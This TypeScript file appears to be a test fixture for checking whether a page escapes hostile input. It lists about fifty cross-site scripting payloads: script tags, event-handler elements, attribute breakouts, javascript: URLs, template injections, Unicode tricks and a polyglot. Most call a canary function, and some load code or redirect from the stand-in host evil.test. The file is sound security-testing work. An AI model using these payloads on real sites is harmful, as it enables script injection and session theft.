/**
 * What strangers send in the hope that a page takes it for HTML, an address or code. Each would call `ran(n)`, or
 * fetch something, if it came through.
 */
const wishes: ((n: number) => string)[] = [
  // Script elements.
  (n) => `<script>ran(${n})</script>`,
  (n) => `"><script>ran(${n})</script>`,
  (n) => `</textarea><script>ran(${n})</script>`,
  (n) => `</title></style><script>ran(${n})</script>`,
  (n) => `<ScRiPt >ran(${n})</sCrIpT >`,
  (n) => `<script src=//evil.test/${n}.js></script>`,
  (n) => `<script type=module>ran(${n})</script>`,
  (n) => `<scr<script>ipt>ran(${n})</scr</script>ipt>`,
  (n) => `--><script>ran(${n})</script><!--`,
  (n) => `]]><script>ran(${n})</script><![CDATA[`,
  // Elements that run something by themselves.
  (n) => `<img src=x${n} onerror=ran(${n})>`,
  (n) => `<img src=//evil.test/${n}.png>`,
  (n) => `<image src=x${n} onerror=ran(${n})>`,
  (n) => `<svg onload=ran(${n})>`,
  (n) => `<svg><script>ran(${n})</script></svg>`,
  (n) => `<svg><animate onbegin=ran(${n}) attributeName=x dur=1s>`,
  (n) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='ran(${n})'/>#x"/></svg>`,
  (n) => `<math><maction actiontype=statusline xlink:href=javascript:ran(${n})>x</maction></math>`,
  (n) => `<body onload=ran(${n})>`,
  (n) => `<iframe src=javascript:ran(${n})></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.ran(${n})</script>"></iframe>`,
  (n) => `<object data=//evil.test/${n}.swf></object>`,
  (n) => `<embed src=//evil.test/${n}.swf>`,
  (n) => `<video><source onerror=ran(${n})></video>`,
  (n) => `<audio src=x${n} onerror=ran(${n})>`,
  (n) => `<input autofocus onfocus=ran(${n})>`,
  (n) => `<details open ontoggle=ran(${n})>x</details>`,
  (n) => `<marquee onstart=ran(${n})>x</marquee>`,
  (n) => `<style>@import '//evil.test/${n}.css';</style>`,
  (n) => `<link rel=stylesheet href=//evil.test/${n}.css>`,
  (n) => `<meta http-equiv=refresh content="0;url=//evil.test/${n}">`,
  (n) => `<base href=//evil.test/${n}/>`,
  (n) => `<form action=//evil.test/${n}><button autofocus>x</button></form>`,
  (n) => `<template shadowrootmode=open><img src=x${n} onerror=ran(${n})></template>`,
  // Out of an attribute.
  (n) => `" onmouseover="ran(${n})" x="`,
  (n) => `' autofocus onfocus='ran(${n})' x='`,
  (n) => `x\` onerror=ran(${n}) y=\``,
  // Addresses.
  (n) => `javascript:ran(${n})`,
  (n) => `java\u00adscript:ran(${n})//https://example.org`,
  (n) => `data:text/html,<script>opener.ran(${n})</script>`,
  (n) => `<a href=javascript:ran(${n})>press</a>`,
  (n) => `[press](javascript:ran(${n}))`,
  // Templates and strings of other languages.
  (n) => `{{constructor.constructor('ran(${n})')()}}`,
  (n) => `\${ran(${n})}#{ran(${n})}<%= ran(${n}) %>`,
  (n) => `';ran(${n});//\\';ran(${n});//";ran(${n});//`,
  (n) => `{"__proto__":{"html":"<img src=x${n} onerror=ran(${n})>"}}`,
  // Letters that look or behave otherwise.
  (n) => `＜script＞ran(${n})＜/script＞`,
  (n) => `\u202e<script>ran(${n})</script>\u202c`,
  (n) => `<img\u200b src=x${n}\u2028onerror=ran(${n})>`,
  // All at once, as the name of a file.
  (n) => `../../<img src=x${n} onerror=ran(${n})>.svg?jaVasCript:/*-/*\`/*'/*"/**/(/* */oNcliCk=ran(${n}) )//`,
]

export const payloads = wishes.map((wish, n) => wish(n))

/** What a header may hold: one byte a letter. Node.js sends the bytes of UTF-8 so. */
export const asHeader = (text: string) => Buffer.from(text, 'utf8').toString('latin1')
